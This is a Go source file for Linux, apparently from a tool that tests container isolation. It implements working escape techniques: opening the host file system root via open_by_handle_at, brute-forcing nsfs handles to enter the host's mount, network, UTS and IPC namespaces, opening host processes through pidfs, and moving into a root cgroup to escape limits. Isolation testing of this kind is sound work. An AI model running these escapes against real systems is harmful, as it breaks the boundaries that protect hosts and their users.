// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"

	"golang.org/x/sys/unix"
)

func handleAttacks() []attack {
	return []attack{
		{
			"file-handle", "opens the root of the volume's file system by its handle (open_by_handle_at)",
			"every file on the disk that the volume is on", fileHandle,
		},
		{
			"mount-namespace-handle", "opens the host's mount namespace by its handle (nsfs, Linux 6.18) and enters it",
			"every file of the host", mountNamespaceHandle,
		},
		{
			"network-namespace-handle", "opens the host's network namespace by its handle and calls an abstract socket there",
			"every service of the host that listens on an abstract socket or on loopback", networkNamespaceHandle,
		},
		{
			"host-name-handle", "opens the host's UTS namespace by its handle and enters it",
			"the host's name", utsNamespaceHandle,
		},
		{
			"shared-memory-handle", "opens the host's IPC namespace by its handle and attaches a segment there",
			"shared memory of the host's processes", ipcNamespaceHandle,
		},
		{
			"process-handle", "opens processes by their handles (pidfs, Linux 6.14) and asks for their ids",
			"processes outside the machine, to signal them", processHandle,
		},
		{
			"cgroup-handle", "opens the root of a control group tree by its handle",
			"groups above the machine's own, and so its limits", cgroupHandle,
		},
	}
}

// Types of handles (enum fid_type of the kernel) and the roots of special file systems (linux/fcntl.h).
const (
	handleInode  = 0x01 // FILEID_INO32_GEN: inode, generation
	handleBtrfs  = 0x4d // FILEID_BTRFS_WITHOUT_PARENT: object, root, generation
	handleKernfs = 0xfe // FILEID_KERNFS: inode
	handleNsfs   = 0xf1 // FILEID_NSFS: id, type, inode

	pidfsRoot = -10002
	nsfsRoot  = -10003
)

// words is a handle's content, in the order of the bytes of the processor.
func words(values ...any) []byte {
	var b bytes.Buffer
	for _, v := range values {
		_ = binary.Write(&b, binary.NativeEndian, v) // a buffer takes everything
	}
	return b.Bytes()
}

func fileHandle(w *world) finding {
	if w.Volume == "" || w.HostFile == "" {
		return notHere("-volume or -host-file is not given")
	}
	volume, err := unix.Open(w.Volume, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return refused("opening the volume", err)
	}
	var tried ways
	for _, root := range []struct {
		name   string
		handle unix.FileHandle
	}{
		{"ext4", unix.NewFileHandle(handleInode, words(uint32(2), uint32(0)))},
		{"btrfs", unix.NewFileHandle(handleBtrfs, words(uint64(256), uint64(5), uint32(0)))},
		{"xfs", unix.NewFileHandle(handleInode, words(uint32(128), uint32(0)))},
	} {
		fd, err := unix.OpenByHandleAt(volume, root.handle, unix.O_RDONLY|unix.O_DIRECTORY)
		if err != nil {
			tried.add("opening the root of "+root.name+" by its handle", err)
			continue
		}
		if f, ok := w.fromRoot(fd, "handle of the root of "+root.name); ok {
			return f
		}
		tried.add("the host's file is not below the root of "+root.name, unix.ENODEV)
	}
	return tried.finding()
}

// initial are the inodes of the host's first namespaces, which are the same on every kernel (enum init_ns_ino of
// linux/nsfs.h).
var initial = map[int]uint32{
	unix.CLONE_NEWIPC: 0xEFFFFFFF, unix.CLONE_NEWUTS: 0xEFFFFFFE, unix.CLONE_NEWNET: 0xEFFFFFF9, unix.CLONE_NEWNS: 0xEFFFFFF8,
}

// openInitial opens a namespace of the host by its handle. Its id is a small number, which is found by trying.
func openInitial(kind int) (int, error) {
	const most = 10_000
	var last error
	for id := range uint64(most) {
		handle := unix.NewFileHandle(handleNsfs, words(id, uint32(kind), initial[kind])) //nolint:gosec // G115: a small number
		fd, err := unix.OpenByHandleAt(nsfsRoot, handle, unix.O_RDONLY)
		if err == nil {
			return fd, nil
		}
		last = err
		switch {
		case errors.Is(err, unix.ESTALE): // not this id
		case errors.Is(err, unix.EBADF) || errors.Is(err, unix.EINVAL): // before Linux 6.18
			return -1, fmt.Errorf("opening a namespace by its handle: %w", unix.ENOSYS)
		default:
			return -1, fmt.Errorf("opening the host's namespace by its handle: %w", err)
		}
	}
	return -1, fmt.Errorf("opening the host's namespace by its handle, ids to %d: %w", most, last)
}

// enterInitial enters a namespace of the host.
func enterInitial(kind int) error {
	fd, err := openInitial(kind)
	if err != nil {
		return err
	}
	if err := unix.Setns(fd, kind); err != nil {
		return fmt.Errorf("entering the host's namespace: %w", err)
	}
	return nil
}

func mountNamespaceHandle(w *world) finding {
	if err := enterInitial(unix.CLONE_NEWNS); err != nil {
		return refused("mount namespace", err)
	}
	return w.fromHere("the mount namespace of the kernel's first process")
}

// fromHere looks for the host's file in the mount namespace that the attack has entered.
func (w *world) fromHere(how string) finding {
	root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return refused("opening its root", err)
	}
	if f, ok := w.fromRoot(root, how); ok {
		return f
	}
	return notHere("%s has no file of the host", how)
}

func networkNamespaceHandle(w *world) finding {
	if w.HostSocket == "" {
		return notHere("-host-socket is not given")
	}
	if err := enterInitial(unix.CLONE_NEWNET); err != nil {
		return refused("network namespace", err)
	}
	return w.askSocket("@"+w.HostSocket, "the host's network namespace")
}

func utsNamespaceHandle(w *world) finding {
	if w.HostName == "" {
		return notHere("-host-name is not given")
	}
	before, err := nodeName()
	if err != nil {
		return refused("reading the host name", err)
	}
	if before == w.HostName {
		return notHere("the machine is called as the host is: %s", before)
	}
	if err := enterInitial(unix.CLONE_NEWUTS); err != nil {
		return refused("UTS namespace", err)
	}
	name, err := nodeName()
	if err != nil || name != w.HostName {
		return notHere("the namespace that was entered is called %q, the host %q", name, w.HostName)
	}
	if err := unix.Sethostname([]byte(name)); err != nil {
		return out("read the host's name %s", name)
	}
	return out("set the host's name, to %s as it was", name)
}

func nodeName() (string, error) {
	var name unix.Utsname
	err := unix.Uname(&name)
	return unix.ByteSliceToString(name.Nodename[:]), err
}

func ipcNamespaceHandle(w *world) finding {
	if w.HostMemory == 0 {
		return notHere("-host-memory is not given")
	}
	if err := enterInitial(unix.CLONE_NEWIPC); err != nil {
		return refused("IPC namespace", err)
	}
	return w.attachMemory("the host's IPC namespace")
}

func processHandle(w *world) finding {
	if w.HostPID == 0 {
		return notHere("-host-pid is not given")
	}
	own, err := unix.PidfdOpen(unix.Getpid(), 0)
	if err != nil {
		return refused("opening a pidfd", err)
	}
	var stat unix.Stat_t
	if err := unix.Fstat(own, &stat); err != nil {
		return refused("looking at a pidfd", err)
	}
	// Inodes of processes are given in the order in which they began, so those of the host are just below.
	const most = 5_000
	var tried ways
	for inode := stat.Ino; inode > 0 && inode+most > stat.Ino; inode-- {
		fd, err := unix.OpenByHandleAt(pidfsRoot, unix.NewFileHandle(handleKernfs, words(inode)), unix.O_RDONLY)
		if errors.Is(err, unix.EBADF) {
			return notHere("opening a process by its handle: %v", unix.ENOSYS)
		}
		if err != nil {
			tried.add("opening a process by its handle", err)
			continue
		}
		if pidOf(fd) == 0 {
			return out("opened a process by its handle that is not in this PID namespace (%d)", inode)
		}
		_ = unix.Close(fd)
	}
	if len(tried.refusals) == 0 {
		return held("the handles of the last %d processes are those of this PID namespace", most)
	}
	return tried.finding()
}

// pidOf is the id of a pidfd's process in this PID namespace; 0 if it is of another, and -1 if it has ended, whose
// namespace the kernel has looked at before it opened it (fs/pidfs.c, pidfs_fh_to_dentry).
func pidOf(fd int) int {
	info := readAt(unix.AT_FDCWD, fmt.Sprintf("/proc/self/fdinfo/%d", fd))
	pid := -1
	if _, after, ok := bytes.Cut(info, []byte("\nPid:")); ok {
		_, _ = fmt.Sscan(string(after), &pid)
	}
	return pid
}

func cgroupHandle(w *world) finding {
	groups, err := mountGroups(w)
	if err != nil {
		return refused("mounting control groups", err)
	}
	var tried ways
	for _, g := range groups {
		fd, err := unix.OpenByHandleAt(g.fd, unix.NewFileHandle(handleKernfs, words(uint64(1))), unix.O_RDONLY|unix.O_DIRECTORY)
		if err != nil {
			tried.add("opening the root of "+g.name+" by its handle", err)
			continue
		}
		var top, own unix.Stat_t
		if unix.Fstat(fd, &top) != nil || unix.Fstat(g.fd, &own) != nil || top.Ino == own.Ino {
			tried.add("the root of "+g.name+" is the machine's own", unix.ENODEV)
			continue
		}
		procs, err := openIn(fd, "cgroup.procs", unix.O_WRONLY)
		if err != nil {
			tried.add("opening cgroup.procs of the root of "+g.name, err)
			continue
		}
		if _, err := unix.Write(procs, []byte("0")); err != nil {
			tried.add("entering the root of "+g.name, err)
			continue
		}
		return out("moved itself to the root of %s, above the machine's group and its limits", g.name)
	}
	return tried.finding()
}
